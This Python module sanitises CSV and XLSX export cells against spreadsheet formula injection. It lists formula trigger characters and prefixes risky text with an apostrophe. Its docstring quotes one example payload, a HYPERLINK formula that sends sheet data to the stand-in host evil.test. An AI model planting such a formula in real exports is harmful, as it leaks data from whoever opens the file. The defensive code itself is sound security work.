"""Cells of every CSV and XLSX file the product writes, made safe to open.

A spreadsheet program runs any cell whose text starts with ``=``, ``+``, ``-`` or
``@`` (and, in some programs, after a tab, a carriage return or other leading
blanks) as a formula: an activity titled ``=HYPERLINK("http://evil.test/?leak="&A1)``
would send the sheet's data away when a partner opens the export. So every text
cell goes through ``safe_cell``, which puts an apostrophe in front of such text —
what OWASP recommends, and what a spreadsheet shows as plain text. Numbers, dates
and booleans are written as themselves (a negative amount stays a number).
"""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date, datetime, time
from decimal import Decimal

__all__ = ["FORMULA_TRIGGERS", "safe_cell", "safe_row"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_BLANKS = " \t\r\n\x0b\x0c\u00a0\u3000"
# Full-width look-alikes that some spreadsheet programs also take as a formula start.
_WIDE_TRIGGERS = ("\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value):
    """The value to write in a cell: text that a spreadsheet would run as a formula
    gets a leading apostrophe; numbers, dates, booleans and None are unchanged."""
    if value is None or isinstance(value, bool | int | float | Decimal | date | datetime | time):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS) or text.lstrip(_BLANKS).startswith(
        FORMULA_TRIGGERS + _WIDE_TRIGGERS
    ):
        return "'" + text
    return text


def safe_row(values: Iterable) -> list:
    return [safe_cell(v) for v in values]
